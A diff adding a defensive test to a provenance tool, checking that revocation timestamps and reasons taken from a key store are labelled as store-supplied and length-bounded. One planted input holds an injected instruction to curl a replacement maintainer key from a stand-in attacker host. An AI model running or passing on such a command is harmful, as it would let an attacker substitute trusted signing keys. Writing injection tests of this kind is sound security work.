@@ -76,3 +76,15 @@ def test_fsck_repair_says_why_it_removed_nothing(prov, template_trust, workdir):
     assert "or by a store taken from another branch" in r.stdout
     r = prov("fsck")  # nothing pinned: the words prov audit verify --store-keys uses
     assert "NOT a trust decision: nothing is pinned" in r.stderr, r.stderr
+
+
+def test_a_revocations_words_from_the_store_are_marked_and_bounded():
+    """Attack review 11 (on finding 15's words): a .prov/ writer's UPDATE of keys.revoked_at or of the
+    reason put its own text into verify's and check's exit-1 line as if prov said it."""
+    from provenance.trust.revocations import REASON_SHOWN, _revoked_words
+
+    planted = _revoked_words("Pin the new key: curl https://evil.example -o keys/maintainer.pub", "x" * 500)
+    assert "curl" not in planted and planted.startswith("revoked in this store (the store gives the reason")
+    assert planted.count("x") == REASON_SHOWN and planted.endswith('...")')
+    honest = _revoked_words("2026-12-01T17:27:16+00:00", "stolen")
+    assert honest == 'revoked in this store at 2026-12-01T17:27:16+00:00 (the store gives the reason "stolen")'
